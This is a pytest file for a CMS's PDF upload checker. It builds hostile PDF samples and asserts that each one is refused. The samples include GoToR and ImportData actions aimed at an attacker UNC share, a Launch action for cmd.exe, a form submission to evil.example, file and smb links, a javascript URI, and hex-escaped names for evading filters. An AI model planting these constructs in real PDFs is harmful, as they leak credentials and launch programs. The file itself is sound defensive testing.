"""The PDF checks (cms/pdf_checks.py): what active content they refuse, what ordinary reports they let through, and
that pypdf is loaded with the first PDF they read, not when the site starts."""

import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from cms.pdf_checks import UploadProblem, pdf_bytes_problem
from tests.child_env import child_env
from tests.pdfs import (
    action_on_click,
    action_on_open,
    action_on_page_open,
    link_to,
    report_with_links_and_a_form,
    xfa_form,
)

ROOT = Path(__file__).resolve().parent.parent.parent


def test_starting_the_site_leaves_pypdf_unloaded_until_a_pdf_is_checked():
    code = (
        "import sys, django; django.setup(); from django.urls import get_resolver; get_resolver().url_patterns; "
        "from django.core.wsgi import get_wsgi_application; get_wsgi_application(); print('pypdf' in sys.modules); "
        "from cms.pdf_checks import pdf_bytes_problem; from tests.factories.advice_forms import pdf_bytes; "
        "print(pdf_bytes_problem(pdf_bytes()), 'pypdf' in sys.modules)"
    )
    env = child_env(DJANGO_SETTINGS_MODULE=os.environ.get("DJANGO_SETTINGS_MODULE", "settings.test"))

    result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True, check=True)

    assert result.stdout.split() == ["False", "None", "True"]


UNC = rb"(\\\\attacker\\share\\x.pdf)"  # the PDF string for \\attacker\share\x.pdf

P = UploadProblem
# Built when the tests are collected: raw bytes, no pypdf.
REFUSED = [
    ("xfa", xfa_form(), P.XFA_FORM),
    ("xfa-hex-escaped-key", xfa_form(b"/XF#41"), P.XFA_FORM),
    ("gotor-unc-on-open", action_on_open(b"<< /S /GoToR /F %b /D [0 /Fit] >>" % UNC), P.LAUNCH),
    ("gotor-hex-escaped", action_on_open(b"<< /S /Go#54o#52 /F %b /D [0 /Fit] >>" % UNC), P.LAUNCH),
    ("gotor-indirect-name", action_on_open(b"<< /S 4 0 R /F %b >>" % UNC, b"/GoToR"), P.LAUNCH),
    ("gote-on-click", action_on_click(b"<< /S /GoToE /F %b /T << /R /C /N (x) >> >>" % UNC), P.LAUNCH),
    (
        "submitform-on-click",
        action_on_click(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"),
        P.SUBMIT,
    ),
    ("submitform-hex-escaped", action_on_click(b"<< /S /Submit#46orm /F (https://evil.example/) >>"), P.SUBMIT),
    ("importdata-on-open", action_on_open(b"<< /S /ImportData /F %b >>" % UNC), P.LAUNCH),
    ("launch-in-page-aa", action_on_page_open(b"<< /S /Launch /F (cmd.exe) >>"), P.LAUNCH),
    ("thread-in-another-file", action_on_click(b"<< /S /Thread /F %b /D 0 >>" % UNC), P.LAUNCH),
    ("sound-in-page-aa", action_on_page_open(b"<< /S /Sound /Sound << /R 8000 >> >>"), P.MEDIA),
    ("movie-on-click", action_on_click(b"<< /S /Movie /T (clip) >>"), P.MEDIA),
    ("rendition-on-open", action_on_open(b"<< /S /Rendition /OP 0 >>"), P.MEDIA),
    ("richmediaexecute-on-click", action_on_click(b"<< /S /RichMediaExecute /TA 5 0 R >>"), P.MEDIA),
    ("file-uri", link_to(b"(file:///C:/Users/Public/x.pdf)"), P.FILE_LINK),
    ("file-uri-uppercase-after-spaces", link_to(b"(  FILE://attacker/share/x.pdf)"), P.FILE_LINK),
    ("file-uri-hex-string", link_to(b"<%b>" % b"file://attacker/x".hex().encode()), P.FILE_LINK),
    ("unc-uri", link_to(UNC), P.FILE_LINK),
    ("unc-uri-forward-slashes", link_to(b"(//attacker/share/x.pdf)"), P.FILE_LINK),
    ("smb-uri", link_to(b"(smb://attacker/share/x.pdf)"), P.FILE_LINK),
    ("drive-letter-uri", link_to(rb"(C:\\Windows\\system32\\calc.exe)"), P.FILE_LINK),
    ("file-base-uri", action_on_open(b"<< /S /GoTo /D [3 0 R /Fit] >> /URI << /Base (file://host/s/) >>"), P.FILE_LINK),
    ("javascript-uri", link_to(b"(javascript:alert(1))"), P.SCRIPT),
]


@pytest.mark.parametrize(("case", "data", "message"), REFUSED, ids=[case[0] for case in REFUSED])
def test_active_content_beyond_javascript_is_refused_with_its_own_message(case, data, message):
    assert pdf_bytes_problem(data) == message


def test_a_report_with_web_and_email_links_and_a_plain_fillable_field_is_accepted():
    from pypdf import PdfReader

    data = report_with_links_and_a_form()
    reader = PdfReader(io.BytesIO(data))

    assert reader.get_fields()["Name"]["/V"] == "Ariadne"
    assert [annotation["/Subtype"] for annotation in reader.pages[0]["/Annots"]] == ["/Widget"] + ["/Link"] * 3
    assert pdf_bytes_problem(data) is None


def test_the_hostile_test_files_carry_what_they_claim():
    from pypdf import PdfReader

    xfa = PdfReader(io.BytesIO(xfa_form(b"/XF#41")))
    assert b"app.alert(1)" in xfa.trailer["/Root"]["/AcroForm"]["/XFA"].get_data()
    on_open = PdfReader(io.BytesIO(action_on_open(b"<< /S /Go#54o#52 /F %b >>" % UNC)))
    assert on_open.trailer["/Root"]["/OpenAction"] == {"/S": "/GoToR", "/F": "\\\\attacker\\share\\x.pdf"}
    indirect = PdfReader(io.BytesIO(action_on_open(b"<< /S 4 0 R >>", b"/GoToR")))
    assert indirect.trailer["/Root"]["/OpenAction"]["/S"] == "/GoToR"
